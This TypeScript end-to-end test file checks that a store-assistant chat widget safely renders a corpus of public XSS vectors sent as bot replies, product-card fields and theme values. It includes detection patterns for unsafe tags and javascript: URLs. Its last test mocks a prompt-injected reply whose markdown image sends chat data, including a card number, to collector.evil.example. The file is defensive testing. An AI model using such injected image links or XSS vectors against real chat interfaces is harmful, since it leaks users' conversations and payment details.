import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { replyJson, startFixtureServer, widgetPage, type FixtureServer } from '../fixture-server';
import { afterFrames, startSession, type E2eSession } from '../harness';
import { PATIENCE_MS } from '../../support/patience';
import { installTripwires, tripped, unsafeMarkup } from './page-guards';

/**
 * Public XSS vectors sent through the real widget in Chromium, as bot replies, as product-card fields
 * and as theme values. By default the small lists run whole and the two large ones are sampled (every
 * 8th); XSS_FULL=1 sends every vector of every list as a reply and in a card (CI does). Theme values
 * get a sample here and every vector in the unit tests (test/unit/theme/theme-xss.test.ts).
 */
const FULL = process.env.XSS_FULL === '1';
const corpus = JSON.parse(readFileSync(path.join(__dirname, '../../fixtures/xss-payloads.json'), 'utf8')) as {
  sources: { name: string; payloads: string[] }[];
};
const all = corpus.sources.flatMap((source) => source.payloads);
const sample = corpus.sources.flatMap((source) =>
  FULL || source.payloads.length < 1000 ? source.payloads : source.payloads.filter((_, index) => index % 8 === 0),
);
const every = (step: number) => all.filter((_, index) => index % step === 0);

let session: E2eSession;
let fixtures: FixtureServer;
let mode: 'reply' | 'card' = 'reply';
const outside: string[] = [];

beforeAll(async () => {
  [session, fixtures] = await Promise.all([startSession(), startFixtureServer()]);
  // The webhook answers "#<n>" with vector n: as the reply's markdown, or in every field of a card.
  // The webhook answers "#<n>" with vector n as the reply's markdown, or "#<n>,<m>,..." with one card
  // per vector, each vector in every field of its card.
  fixtures.handle('/xss-webhook', (_request, response, body) => {
    const indices = (/#([\d,]+)/.exec((JSON.parse(body) as { message: string }).message)?.[1] ?? '')
      .split(',')
      .map(Number);
    if (mode === 'reply') return replyJson(response, { output: all[indices[0] ?? -1] ?? '' });
    const products = indices
      .map((index) => all[index] ?? '')
      .map((payload) => ({
        title: payload,
        name: payload,
        description: payload,
        url: payload,
        productUrl: payload,
        image: payload,
        imageUrl: payload,
        price: payload,
      }));
    replyJson(response, { reply: 'Cards', products });
  });
});

afterAll(async () => {
  await session?.close();
  await fixtures?.close();
});

async function openWidget(attributes = '') {
  const opened = await session.newPage();
  await installTripwires(opened.page, `${fixtures.url}/xss-webhook`);
  opened.page.on('request', (request) => {
    if (!request.url().startsWith(fixtures.url) && !request.url().startsWith('data:')) outside.push(request.url());
  });
  await opened.page.goto(
    fixtures.page(
      `/xss-${Math.random().toString(36).slice(2)}`,
      widgetPage(`webhook-url="/xss-webhook" typing-speed="0" persist="none" ${attributes}`),
    ),
  );
  await opened.page.waitForFunction(() =>
    document.querySelector('store-assistant')?.shadowRoot?.querySelector('.card'),
  );
  return opened;
}

/** Widgets that take the vectors side by side: each page has its own renderer process, one per core. */
const PAGES = 2;

/**
 * Sends "#<n>" for each index, waits for each reply to render, and returns the indices whose reply
 * left unsafe markup in its message, or a product card whose link or image is not a safe URL. The
 * conversation is restarted every 10 vectors, so each reply is laid out beside a short thread.
 */
function sendVectors(page: Page, groups: number[][]): Promise<{ index: number; found: string[] }[]> {
  return page.evaluate(async (list) => {
    const el = document.querySelector('store-assistant') as HTMLElement & {
      sendMessage(text: string): boolean;
      newChat(): void;
      startChat(): void;
    };
    el.startChat();
    const bad: { index: number; found: string[] }[] = [];
    const scan = (root: ParentNode) =>
      [...root.querySelectorAll('*')].flatMap((element) => {
        const found: string[] = [];
        const tag = element.tagName.toLowerCase();
        if (/^(form|iframe|object|embed|svg|math|script|style|frame|base|meta|link)$/.test(tag)) found.push(`<${tag}>`);
        for (const attribute of element.attributes) {
          const value = attribute.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
          if (/^on/i.test(attribute.name) || attribute.name === 'style') found.push(`<${tag} ${attribute.name}>`);
          if (/^(javascript|vbscript):/.test(value) || /^data:text/.test(value))
            found.push(`<${tag} ${attribute.name}>`);
        }
        const target =
          element.closest('.product-card') && (element.getAttribute('href') ?? element.getAttribute('src'));
        if (target && !/^(https:|data:image\/(png|jpe?g|gif|webp|avif);base64,|http:\/\/127\.0\.0\.1)/.test(target))
          found.push(`<${tag} ${target.slice(0, 60)}>`);
        return found;
      });
    for (const [position, group] of list.entries()) {
      const index = group[0] as number;
      if (position % 10 === 0) el.newChat();
      const replied = new Promise<void>((resolve) => {
        const onMessage = (event: Event) => {
          if ((event as CustomEvent<{ sender: string }>).detail.sender !== 'bot') return;
          el.removeEventListener('store-assistant:message', onMessage);
          resolve();
        };
        el.addEventListener('store-assistant:message', onMessage);
      });
      if (!el.sendMessage(`#${group.join(',')}`)) throw new Error(`vector ${index} could not be sent`);
      await replied;
      // The reply commits in the same task; a macrotask later it is in the DOM.
      await new Promise((resolve) => setTimeout(resolve, 0));
      const messages = el.shadowRoot?.querySelectorAll('.message.bot');
      const last = messages?.[messages.length - 1];
      const found = last ? scan(last) : ['no reply rendered'];
      if (found.length > 0) bad.push({ index, found });
    }
    return bad;
  }, groups);
}

/**
 * Deals the groups out to PAGES widgets that run side by side, then checks each page: what its
 * replies left behind, the whole shadow root, the tripwires and page errors. Returns every finding.
 */
async function inParallel(groups: number[][]): Promise<string[]> {
  const share = Math.ceil(groups.length / PAGES);
  const findings = await Promise.all(
    Array.from({ length: PAGES }, async (_, part) => {
      const { page, pageErrors } = await openWidget();
      const bad = await sendVectors(page, groups.slice(part * share, (part + 1) * share));
      // A vector may act late (an image's onerror after its failed load): nothing to wait for but time.
      // eslint-disable-next-line no-restricted-syntax -- a check that nothing happens needs a window
      await page.waitForTimeout(300);
      return [
        ...bad.map(({ index, found }) => `${JSON.stringify(all[index]).slice(0, 120)}: ${found.join(', ')}`),
        ...(await unsafeMarkup(page)),
        ...(await tripped(page)),
        ...pageErrors,
      ];
    }),
  );
  return findings.flat();
}

describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${FULL ? all.length : sample.length} public vectors${FULL ? '' : `; XSS_FULL=1 for all ${all.length}`})`, () => {
  it('as bot replies: no script runs and no unsafe markup ends up in the shadow root', async () => {
    mode = 'reply';
    const bad = await inParallel(sample.map((payload) => [all.indexOf(payload)]));
    expect(bad).toEqual([]);
    expect(outside).toEqual([]);
  }, 900_000);

  it('as product-card fields: cards render, nothing runs, no unsafe link or image', async () => {
    mode = 'card';
    // Twelve cards (the most one reply shows) per reply, one vector in every field of each.
    const indices = sample.map((payload) => all.indexOf(payload));
    const groups = Array.from({ length: Math.ceil(indices.length / 12) }, (_, i) => indices.slice(i * 12, i * 12 + 12));
    expect(await inParallel(groups)).toEqual([]);
  }, 900_000);

  it('as theme values (attributes and importTheme): nothing runs, unsafe values are refused', async () => {
    const { page, pageErrors } = await openWidget();
    const vectors = every(FULL ? 5 : 25);
    const result = await page.evaluate(async (list) => {
      const el = document.querySelector('store-assistant') as HTMLElement & { importTheme(json: unknown): boolean };
      const fields = [
        'brand-name',
        'welcome-message',
        'quick-actions',
        'accent-color',
        'primary-gradient',
        'secondary-gradient',
        'logo-url',
        'badge-images',
      ];
      const accepted: string[] = [];
      for (const vector of list) {
        for (const field of fields) el.setAttribute(field, vector);
        await new Promise((resolve) => setTimeout(resolve, 0));
        el.importTheme({ brandName: vector, accentColor: vector, logoUrl: vector });
        for (const property of ['--sa-accent-color', '--sa-primary-gradient', '--sa-secondary-gradient']) {
          const value = el.style.getPropertyValue(property);
          if (/[;{}\\]|url\(|var\(|expression\(|image-set\(|javascript:/i.test(value))
            accepted.push(`${property}: ${value}`);
        }
      }
      return accepted;
    }, vectors);
    // eslint-disable-next-line no-restricted-syntax -- a check that nothing happens needs a window
    await page.waitForTimeout(200);
    expect(result).toEqual([]);
    expect(await unsafeMarkup(page)).toEqual([]);
    expect(await tripped(page)).toEqual([]);
    expect(pageErrors).toEqual([]);
  }, 900_000);

  it('a tracking-pixel reply sends nothing to another host: the image shows as its alt text', async () => {
    mode = 'reply';
    const { page } = await openWidget();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.evaluate(() => {
      const el = document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean };
      el.sendMessage('#0');
    });
    // A reply built by a prompt injection: the conversation smuggled into an image URL.
    await page.route(`${fixtures.url}/xss-webhook`, (route) =>
      route.fulfill({
        status: 200,
        contentType: 'application/json',
        body: JSON.stringify({
          output:
            'Done! ![order summary](https://collector.evil.example/p.gif?chat=my+card+is+4242) ![pixel](http://127.0.0.2/p.gif?x=1)',
        }),
      }),
    );
    // Sending is refused while the first reply is awaited: it goes out once that has landed.
    const sendSecond = () =>
      page.evaluate(() =>
        (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage(
          'What did I order?',
        ),
      );
    await expect.poll(sendSecond, { timeout: PATIENCE_MS }).toBe(true);
    await page.locator('store-assistant .messages').getByText('order summary').waitFor();
    await afterFrames(page);
    expect(requests.filter((url) => url.includes('evil.example') || url.includes('127.0.0.2'))).toEqual([]);
    expect(await page.locator('store-assistant .message.bot img').count()).toBe(0);
  });
});
